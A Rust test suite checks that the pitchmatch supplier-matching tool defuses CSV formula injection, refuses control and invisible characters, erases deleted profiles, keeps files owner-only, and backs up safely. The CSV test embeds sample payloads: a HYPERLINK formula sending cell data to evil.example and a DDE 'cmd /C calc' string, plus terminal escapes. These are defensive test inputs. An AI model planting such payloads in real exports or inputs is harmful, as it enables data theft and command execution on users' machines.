//! The store holds personal data of real organisations and its input is hostile. These tests hold
//! the product to what that requires, from outside: CSV exports a spreadsheet opens without running
//! formulas, text without control or invisible characters, deletes that leave no trace in any file
//! of the data dir, files only their owner can read, a demo that deletes only what it made, a
//! supplier's export of its own data, and a backup taken while serving that restores to identical
//! rankings.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::{json, Value};

use crate::drills::Server;

fn bin() -> &'static str {
    env!("CARGO_BIN_EXE_pitchmatch")
}

fn run(data: &Path, args: &[&str]) -> Output {
    Command::new(bin()).arg("--data-dir").arg(data).args(args).output().expect("run pitchmatch")
}

fn ok(data: &Path, args: &[&str]) -> String {
    let out = run(data, args);
    assert!(out.status.success(), "{args:?} failed: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).expect("utf-8 stdout")
}

fn jsonl(records: &[Value]) -> String {
    records.iter().map(|r| r.to_string() + "\n").collect()
}

fn profile(id: &str, name: &str, summary: &str) -> Value {
    json!({"id": id, "name": name, "kind": "company", "language": "en", "summary": summary})
}

const DEMAND: &str = r#"{"id": "d-h2", "organisation": "Stellantis", "title": "Hydrogen storage", "language": "en", "description": "Lightweight hydrogen tanks and valves for vans and light trucks."}"#;

/// A temp dir with a data dir holding one demand area and a few profiles (imported with the CLI).
struct Fixture {
    dir: tempfile::TempDir,
}

impl Fixture {
    fn new(defer_embedding: bool) -> Fixture {
        let dir = tempfile::tempdir().expect("temp dir");
        let f = Fixture { dir };
        let profiles = jsonl(&[
            profile("p-tanks", "Tankwerk B.V.", "We build type IV hydrogen tanks for vans and light trucks."),
            profile("p-valves", "Klepco B.V.", "Hydrogen valves and pressure regulators for fuel cell trucks."),
            profile("p-seats", "Zitfabriek B.V.", "Lightweight seats and interior panels from recycled fibres."),
        ]);
        let p = f.file("profiles.jsonl", &profiles);
        let d = f.file("demands.jsonl", &format!("{DEMAND}\n"));
        let mut args = vec!["import", "--profiles", p.as_str(), "--demands", d.as_str()];
        if defer_embedding {
            args.push("--defer-embedding");
        }
        ok(&f.data(), &args);
        f
    }

    fn data(&self) -> PathBuf {
        self.dir.path().join("data")
    }

    fn file(&self, name: &str, content: &str) -> String {
        let path = self.dir.path().join(name);
        std::fs::write(&path, content).expect("write fixture");
        path.display().to_string()
    }

    fn organiser_token(&self) -> String {
        ok(&self.data(), &["token", "create", "--role", "organiser", "--name", "privacy"]).trim().to_string()
    }

    fn serve(&self) -> Server {
        // Submissions approved at once and cookies for plain http: these tests are about what is
        // stored and written, not moderation or transport.
        let env = [("PITCHMATCH_MODERATION", "false"), ("PITCHMATCH_INSECURE_HTTP_COOKIES", "true")];
        Server::start(&self.data(), &self.dir.path().join("serve.log"), &env)
    }
}

fn client() -> reqwest::blocking::Client {
    reqwest::blocking::Client::builder().timeout(std::time::Duration::from_secs(120)).build().expect("client")
}

fn url(server: &Server, path: &str) -> String {
    format!("http://{}{path}", server.addr)
}

/// Every file under `dir` whose bytes contain `marker`.
fn files_containing(dir: &Path, marker: &str) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).expect("read_dir") {
            let path = entry.expect("entry").path();
            if path.is_dir() {
                stack.push(path);
            } else if let Ok(bytes) = std::fs::read(&path) {
                if bytes.windows(marker.len()).any(|w| w == marker.as_bytes()) {
                    found.push(path);
                }
            }
        }
    }
    found.sort();
    found
}

/// Terms containing `needle` in any segment of the data dir's search index, deleted documents'
/// included. The index keeps its words in compressed term dictionaries (FSTs), where a byte search
/// cannot see them, so they are read with tantivy itself, straight from the files on disk.
fn index_terms_containing(data: &Path, needle: &str) -> Vec<String> {
    let index = tantivy::Index::open_in_dir(data.join("tantivy")).expect("open index");
    let reader: tantivy::IndexReader =
        index.reader_builder().reload_policy(tantivy::ReloadPolicy::Manual).try_into().expect("reader");
    let schema = index.schema();
    let mut found = Vec::new();
    for segment in reader.searcher().segment_readers() {
        for (field, entry) in schema.fields() {
            if !entry.is_indexed() {
                continue;
            }
            let inverted = segment.inverted_index(field).expect("inverted index");
            let mut terms = inverted.terms().stream().expect("terms");
            while terms.advance() {
                let term = String::from_utf8_lossy(terms.key());
                if term.contains(needle) {
                    found.push(format!("{}: {term}", entry.name()));
                }
            }
        }
    }
    found
}

// ------------------------------------------------------------------------------------------------
// CSV injection
// ------------------------------------------------------------------------------------------------

/// A supplier-written name that a spreadsheet would run as a formula reaches the organiser's CSV
/// with a leading quote; ids starting with `-` too; ordinary cells and numbers are untouched.
#[test]
fn csv_exports_defuse_formula_cells() {
    let f = Fixture::new(true);
    let evil = profile(
        "-2-3",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Tankwerk\")",
        "Hydrogen tanks and hydrogen valves for vans and light trucks, lightweight.",
    );
    let at = profile("p-at", "@SUM(1+1)*cmd|' /C calc'!A0", "Lightweight hydrogen tanks for light trucks and vans.");
    let p = f.file("evil.jsonl", &jsonl(&[evil, at]));
    ok(&f.data(), &["import", "--profiles", &p, "--defer-embedding"]);
    for args in [
        vec!["rank", "--demand", "d-h2", "--ranker", "lexical", "--format", "csv", "-k", "10"],
        vec!["search", "--ranker", "lexical", "--format", "csv", "-k", "10", "hydrogen", "tanks"],
    ] {
        let out = ok(&f.data(), &args);
        let body = out.strip_prefix('\u{feff}').expect("BOM");
        let mut reader = csv::Reader::from_reader(body.as_bytes());
        let headers = reader.headers().expect("header").clone();
        let col = |name: &str| headers.iter().position(|h| h == name).expect(name);
        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("csv row")).collect();
        let row = |id: &str| rows.iter().find(|r| r[col("profile_id")] == *id).unwrap_or_else(|| panic!("{id}: {out}"));
        assert_eq!(&row("'-2-3")[col("name")], "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Tankwerk\")", "{out}");
        assert_eq!(&row("p-at")[col("name")], "'@SUM(1+1)*cmd|' /C calc'!A0", "{out}");
        let plain = row("p-tanks");
        assert_eq!(&plain[col("name")], "Tankwerk B.V.");
        assert!(plain[col("score")].parse::<f64>().is_ok(), "a score stays a number: {out}");
        for r in &rows {
            for cell in r.iter() {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "formula cell {cell:?} in {out}");
            }
        }
    }

    // The organiser page's download is the same CSV.
    let organiser = f.organiser_token();
    let server = f.serve();
    let http = reqwest::blocking::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
    let csrf = format!("pmc_{}", "cd".repeat(32));
    let res = http
        .post(url(&server, "/organiser/sign-in"))
        .header("cookie", format!("pm_csrf={csrf}"))
        .form(&[("csrf", csrf.as_str()), ("token", organiser.as_str())])
        .send()
        .unwrap();
    assert_eq!(res.status().as_u16(), 303);
    let session = res
        .headers()
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok()?.split(';').next().map(str::to_string))
        .find(|c| c.starts_with("pm_session="))
        .expect("session cookie");
    let res = http.get(url(&server, "/organiser/demands/d-h2/shortlist.csv")).header("cookie", session).send().unwrap();
    assert_eq!(res.status().as_u16(), 200);
    let body = res.text().unwrap();
    let mut reader = csv::Reader::from_reader(body.trim_start_matches('\u{feff}').as_bytes());
    let names: Vec<String> = reader.records().map(|r| r.expect("csv row")[4].to_string()).collect();
    assert!(names.contains(&"'=HYPERLINK(\"https://evil.example/?\"&A1,\"Tankwerk\")".to_string()), "{body}");
    assert!(names.iter().all(|n| !n.starts_with(['=', '@'])), "{body}");
}

// ------------------------------------------------------------------------------------------------
// Control and invisible characters
// ------------------------------------------------------------------------------------------------

/// Terminal escapes, C1 controls, direction overrides and zero-width characters are refused in
/// names, e-mails, URLs, titles (over HTTP: 422 naming the field; in a file import: exit 2 naming
/// file, line and field); a decomposed accent is stored composed (NFC).
#[test]
fn control_and_invisible_characters_are_refused_and_text_is_stored_nfc() {
    let f = Fixture::new(false);
    let organiser = f.organiser_token();
    let server = f.serve();
    let http = client();
    let base = || profile("p-new", "Nieuw B.V.", "Hydrogen refuelling valves for city buses and vans.");
    let cases = [
        ("name", json!("Evil\u{1b}]0;owned\u{7} B.V.")),
        ("name", json!("Evil\u{9b}2J B.V.")),
        ("name", json!("Evil \u{202E}V.B")),
        ("name", json!("Ev\u{200B}il B.V.")),
        ("name", json!("Evil\nB.V.")),
        ("contact_email", json!("info\u{2066}@evil.example")),
        ("website", json!("https://ev\u{FEFF}il.example")),
        ("keywords", json!(["tanks", "ta\u{200D}nks"])),
        ("summary", json!("Hydrogen refuelling \u{1b}[2J valves for city buses and vans.")),
    ];
    for (field, value) in cases {
        let mut p = base();
        p[field] = value.clone();
        let res = http.post(url(&server, "/api/v1/profiles")).json(&p).send().expect("request");
        assert_eq!(res.status().as_u16(), 422, "{field} = {value}");
        let body: Value = res.json().expect("json");
        let details = body["error"]["details"].as_array().expect("details");
        assert!(
            details.iter().any(|d| d["field"].as_str().is_some_and(|f| f.starts_with(field))
                && d["rule"].as_str().is_some_and(|r| r.contains("U+"))),
            "{field} = {value}: {body}"
        );
    }
    let demand = json!({"id": "d-bad", "organisation": "Renault", "title": "Batteries\u{202D}",
                        "description": "Battery packs and thermal management for small cars."});
    let res = http.post(url(&server, "/api/v1/demands")).bearer_auth(&organiser).json(&demand).send().unwrap();
    assert_eq!(res.status().as_u16(), 422);

    // Line breaks stay allowed where a text may span lines, and text is stored composed.
    let mut p = base();
    p["name"] = json!("Ve\u{301}lo B.V.");
    p["summary"] = json!("Hydrogen refuelling valves.\r\n\tFor city buses and vans.");
    let res = http.post(url(&server, "/api/v1/profiles")).json(&p).send().unwrap();
    assert_eq!(res.status().as_u16(), 201);
    let id = res.json::<Value>().unwrap()["id"].as_str().unwrap().to_string();
    let stored: Value = http
        .get(url(&server, &format!("/api/v1/profiles/{id}")))
        .bearer_auth(&organiser)
        .send()
        .unwrap()
        .json()
        .unwrap();
    assert_eq!(stored["name"], "V\u{e9}lo B.V.");
    assert_eq!(stored["summary"], "Hydrogen refuelling valves.\n\tFor city buses and vans.");
    drop(server);

    let bad =
        f.file("bad.jsonl", &jsonl(&[profile("p-esc", "Esc\u{1b}[31m B.V.", "Hydrogen tanks for light trucks.")]));
    let out = run(&f.data(), &["import", "--profiles", &bad]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("bad.jsonl:1") && stderr.contains("field name") && stderr.contains("U+001B"), "{stderr}");
    assert!(!stderr.contains('\u{1b}'), "the error message echoed the escape: {stderr:?}");
}

// ------------------------------------------------------------------------------------------------
// Erasure
// ------------------------------------------------------------------------------------------------

/// A profile deleted through the API leaves no byte of its name or e-mail anywhere in the data dir
/// (SQLite file, WAL and shared memory, tantivy files) while the server runs on: for a profile
/// submitted over HTTP and for one an organiser imported from a file.
#[test]
fn a_deleted_profile_leaves_no_trace_in_the_data_dir() {
    let f = Fixture::new(false);
    let organiser = f.organiser_token();
    let data = f.data();
    let http = client();

    // Submitted over HTTP, shown in a shortlist (so that caches hold it), deleted by its owner.
    let marker = "qzxjvkplmw";
    let server = f.serve();
    let p = json!({"id": "p-erase", "name": format!("{marker} hydrogen B.V."), "kind": "company", "language": "en",
                   "summary": format!("Hydrogen tanks for light trucks, made by {marker} in Delft."),
                   "contact_email": format!("{marker}@example.org")});
    let res = http.post(url(&server, "/api/v1/profiles")).json(&p).send().unwrap();
    assert_eq!(res.status().as_u16(), 201);
    let created: Value = res.json().unwrap();
    let (id, edit_token) =
        (created["id"].as_str().unwrap().to_string(), created["edit_token"].as_str().unwrap().to_string());
    let list: Value = http
        .get(url(&server, "/api/v1/demands/d-h2/shortlist?ranker=lexical"))
        .bearer_auth(&organiser)
        .send()
        .unwrap()
        .json()
        .unwrap();
    assert!(list.to_string().contains(marker), "{list}");
    assert!(!files_containing(&data, marker).is_empty(), "the store holds it");
    assert!(!index_terms_containing(&data, marker).is_empty(), "the index holds it");
    let res = http.delete(url(&server, &format!("/api/v1/profiles/{id}"))).bearer_auth(&edit_token).send().unwrap();
    assert_eq!(res.status().as_u16(), 204);
    assert_eq!(files_containing(&data, marker), Vec::<PathBuf>::new(), "left behind after the delete");
    assert_eq!(index_terms_containing(&data, marker), Vec::<String>::new(), "left in the index");
    let list: Value = http
        .get(url(&server, "/api/v1/demands/d-h2/shortlist?ranker=lexical"))
        .bearer_auth(&organiser)
        .send()
        .unwrap()
        .json()
        .unwrap();
    assert!(!list.to_string().contains(marker), "{list}");
    drop(server);

    // Imported by an organiser (with another profile), deleted by the organiser.
    let marker = "vwkqzjxpam";
    let p = json!({"id": "p-imported", "name": format!("{marker} valves B.V."), "kind": "company", "language": "en",
                   "summary": format!("Hydrogen valves for vans by {marker}."),
                   "contact_email": format!("{marker}@example.org")});
    // With a companion in the same import, so that the index segment holding it lives on.
    let companion = profile("p-companion", "Begeleider B.V.", "Hydrogen valves for city buses.");
    let file = f.file("two.jsonl", &jsonl(&[p, companion]));
    ok(&data, &["import", "--profiles", &file]);
    let server = f.serve();
    assert!(!files_containing(&data, marker).is_empty(), "the import stored it");
    assert!(!index_terms_containing(&data, marker).is_empty(), "the import indexed it");
    let res = http.delete(url(&server, "/api/v1/profiles/p-imported")).bearer_auth(&organiser).send().unwrap();
    assert_eq!(res.status().as_u16(), 204);
    assert_eq!(files_containing(&data, marker), Vec::<PathBuf>::new(), "left behind after the delete");
    assert_eq!(index_terms_containing(&data, marker), Vec::<String>::new(), "left in the index");
    drop(server);
    assert_eq!(files_containing(&data, marker), Vec::<PathBuf>::new(), "left behind after the server stopped");
    // The rest of the data is intact.
    let out = ok(&data, &["rank", "--demand", "d-h2", "--ranker", "lexical", "--format", "jsonl"]);
    assert!(out.contains("p-tanks") && out.contains("p-companion"), "{out}");
}

// ------------------------------------------------------------------------------------------------
// File modes
// ------------------------------------------------------------------------------------------------

#[cfg(unix)]
fn assert_owner_only(root: &Path) {
    use std::os::unix::fs::PermissionsExt;
    let mut stack = vec![root.to_path_buf()];
    let mut files = 0;
    while let Some(d) = stack.pop() {
        let mode = std::fs::metadata(&d).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o700, "directory {} has mode {mode:o}", d.display());
        for entry in std::fs::read_dir(&d).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else {
                let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
                assert_eq!(mode & 0o077, 0, "{} has mode {mode:o}", path.display());
                files += 1;
            }
        }
    }
    assert!(files > 3, "too few files looked at under {}", root.display());
}

/// The data dir the binary creates is 0700 and every file in it (store, WAL, shared memory, index
/// segments, written by `import`, `token create` and a running `serve`) is readable by its owner
/// only; so is a backup copy.
#[cfg(unix)]
#[test]
fn the_data_dir_and_its_files_are_private_to_their_owner() {
    use std::os::unix::fs::PermissionsExt;
    let f = Fixture::new(true);
    let organiser = f.organiser_token();
    let server = f.serve();
    let res = client()
        .post(url(&server, "/api/v1/profiles"))
        .json(&profile("p-live", "Live B.V.", "Hydrogen valves for vans and city buses."))
        .send()
        .unwrap();
    assert_eq!(res.status().as_u16(), 201);
    let res = client().delete(url(&server, "/api/v1/profiles/p-seats")).bearer_auth(&organiser).send().unwrap();
    assert_eq!(res.status().as_u16(), 204);
    assert_owner_only(&f.data());
    let backup = f.dir.path().join("copy.sqlite");
    ok(&f.data(), &["backup", backup.to_str().unwrap()]);
    let mode = std::fs::metadata(&backup).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode & 0o077, 0, "the backup has mode {mode:o}");
}

// ------------------------------------------------------------------------------------------------
// Backup and restore
// ------------------------------------------------------------------------------------------------

/// `backup` while `serve` runs (and writes) makes a copy that `restore` turns into a data dir with
/// the same rankings; `restore` refuses a non-empty data dir and `backup` an existing file (exit 2).
#[test]
fn a_backup_taken_while_serving_restores_to_identical_rankings() {
    let f = Fixture::new(false);
    let data = f.data();
    let organiser = f.organiser_token();
    let server = f.serve();
    let rank = |dir: &Path| ok(dir, &["rank", "--all", "--format", "jsonl", "-k", "10"]);
    let before = rank(&data);
    let backup = f.dir.path().join("pitchmatch-backup.sqlite");
    ok(&data, &["backup", backup.to_str().unwrap()]);
    // The server goes on writing after the backup; the copy is the state when it was taken.
    let res = client().delete(url(&server, "/api/v1/profiles/p-valves")).bearer_auth(&organiser).send().unwrap();
    assert_eq!(res.status().as_u16(), 204);
    assert_ne!(rank(&data), before, "the delete changed the live ranking");

    let again = run(&data, &["backup", backup.to_str().unwrap()]);
    assert_eq!(again.status.code(), Some(2), "{}", String::from_utf8_lossy(&again.stderr));
    drop(server);

    let restored = f.dir.path().join("restored");
    let out = ok(&restored, &["restore", backup.to_str().unwrap()]);
    assert!(out.contains("restored 3 profiles"), "{out}");
    assert_eq!(rank(&restored), before, "the restored data dir ranks differently");
    // The organiser token came along.
    let tokens = ok(&restored, &["token", "list"]);
    assert!(tokens.contains("privacy\torganiser"), "{tokens}");

    let out = run(&data, &["restore", backup.to_str().unwrap()]);
    assert_eq!(
        out.status.code(),
        Some(2),
        "restore into a non-empty data dir: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("not empty"));
    let not_a_store = f.file("notes.txt", "not a database");
    let out = run(&f.dir.path().join("elsewhere"), &["restore", &not_a_store]);
    assert_eq!(out.status.code(), Some(2), "{}", String::from_utf8_lossy(&out.stderr));
}

// ------------------------------------------------------------------------------------------------
// The demo script
// ------------------------------------------------------------------------------------------------

/// The demo script refuses, before building anything, a data dir it did not make, whatever
/// `PITCHMATCH_DATA_DIR` says; its cleanup removes a directory only when an earlier demo made it.
#[test]
fn the_demo_deletes_only_a_directory_it_made() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let tmp = tempfile::tempdir().unwrap();
    let precious = tmp.path().join("precious");
    std::fs::create_dir(&precious).unwrap();
    std::fs::write(precious.join("pitchmatch.sqlite"), "real data").unwrap();

    // The real script, pointed at a real data dir both ways: it stops at once (no build), exit 2.
    let out = Command::new("bash")
        .arg(root.join("scripts/demo.sh"))
        .env("PITCHMATCH_DATA_DIR", &precious)
        .env("PITCHMATCH_DEMO_DIR", &precious)
        // Without cargo on the PATH: a script that went on would fail to build, not build.
        .env("PATH", "/usr/bin:/bin")
        .output()
        .expect("run demo.sh");
    assert_eq!(out.status.code(), Some(2), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stderr).contains("refusing"));
    assert!(precious.join("pitchmatch.sqlite").is_file(), "the demo deleted a data dir it did not make");

    // The cleanup itself: makes a new dir, re-makes its own, refuses everything else.
    let cleanup = |dir: &Path| {
        Command::new("bash")
            .arg("-c")
            .arg(r#"source "$1" && prepare_demo_dir "$2""#)
            .arg("bash")
            .arg(root.join("scripts/demo-dir.sh"))
            .arg(dir)
            .output()
            .expect("run prepare_demo_dir")
    };
    let own = tmp.path().join("own");
    assert!(cleanup(&own).status.success());
    std::fs::write(own.join("pitchmatch.sqlite"), "demo data").unwrap();
    assert!(cleanup(&own).status.success());
    assert!(!own.join("pitchmatch.sqlite").exists(), "the demo's own dir is started afresh");
    assert_eq!(cleanup(&precious).status.code(), Some(2));
    assert!(precious.join("pitchmatch.sqlite").is_file());
    let link = tmp.path().join("link");
    std::os::unix::fs::symlink(&own, &link).unwrap();
    assert_eq!(cleanup(&link).status.code(), Some(2), "a symlink is not followed");
    assert!(own.is_dir());
    let empty = tmp.path().join("empty");
    std::fs::create_dir(&empty).unwrap();
    assert!(cleanup(&empty).status.success(), "an empty directory may be used");
}

// ------------------------------------------------------------------------------------------------
// Supplier data export
// ------------------------------------------------------------------------------------------------

/// With its edit token a supplier downloads everything stored about its profile, over the API and
/// from its edit page; another supplier's token gets 403, no token 401; the export holds no secret.
#[test]
fn a_supplier_exports_everything_stored_about_its_profile() {
    let f = Fixture::new(false);
    let organiser = f.organiser_token();
    let server = f.serve();
    let http = client();
    let mut p = profile("p-mine", "Mijnbedrijf B.V.", "Hydrogen tanks and valves for light trucks and vans.");
    p["contact_email"] = json!("privacy@mijnbedrijf.example");
    let res = http.post(url(&server, "/api/v1/profiles")).json(&p).send().unwrap();
    assert_eq!(res.status().as_u16(), 201);
    let created: Value = res.json().unwrap();
    let (mine, token) =
        (created["id"].as_str().unwrap().to_string(), created["edit_token"].as_str().unwrap().to_string());
    let res = http
        .post(url(&server, "/api/v1/profiles"))
        .json(&profile("p-other", "Ander B.V.", "Seats and interior panels for vans and buses."))
        .send()
        .unwrap();
    let other = res.json::<Value>().unwrap()["edit_token"].as_str().unwrap().to_string();

    let path = &format!("/api/v1/profiles/{mine}/export");
    let res = http.get(url(&server, path)).bearer_auth(&token).send().unwrap();
    assert_eq!(res.status().as_u16(), 200);
    let disposition = res.headers()["content-disposition"].to_str().unwrap().to_string();
    assert!(
        disposition.contains("attachment") && disposition.contains(&format!("profile-{mine}.json")),
        "{disposition}"
    );
    let text = res.text().unwrap();
    let export: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(export["profile"]["contact_email"], "privacy@mijnbedrijf.example");
    assert_eq!(export["profile"]["name"], "Mijnbedrijf B.V.");
    assert_eq!(export["status"]["indexed"], true);
    assert!(export["status"]["version"].as_u64().is_some_and(|v| v > 0), "{export}");
    assert_eq!(export["edit_token"]["exists"], true);
    assert!(!text.contains(&token) && !text.contains(&token[4..12]), "the export holds the token: {text}");
    assert!(!text.contains("Ander B.V."), "another profile's data in the export");

    assert_eq!(http.get(url(&server, path)).bearer_auth(&other).send().unwrap().status().as_u16(), 403);
    assert_eq!(http.get(url(&server, path)).send().unwrap().status().as_u16(), 401);
    assert_eq!(http.get(url(&server, path)).bearer_auth(&organiser).send().unwrap().status().as_u16(), 200);
    let res = http.get(url(&server, "/api/v1/profiles/p-none/export")).bearer_auth(&organiser).send().unwrap();
    assert_eq!(res.status().as_u16(), 404);

    // The edit page offers it, and its form downloads the same document.
    let csrf = format!("pmc_{}", "ab".repeat(32));
    let form = |action: &str, token: &str| {
        http.post(url(&server, action))
            .header("cookie", format!("pm_csrf={csrf}"))
            .form(&[("csrf", csrf.as_str()), ("id", mine.as_str()), ("edit_token", token)])
            .send()
            .unwrap()
    };
    let page = form("/supplier/edit", &token).text().unwrap();
    assert!(page.contains("action=\"/supplier/export\"") && page.contains("id=\"export-profile\""), "{page}");
    let res = form("/supplier/export", &token);
    assert_eq!(res.status().as_u16(), 200);
    assert!(res.headers()["content-disposition"].to_str().unwrap().contains(&format!("profile-{mine}.json")));
    let downloaded: Value = res.json().unwrap();
    assert_eq!(downloaded["profile"], export["profile"]);
    assert_eq!(form("/supplier/export", &other).status().as_u16(), 403);
}
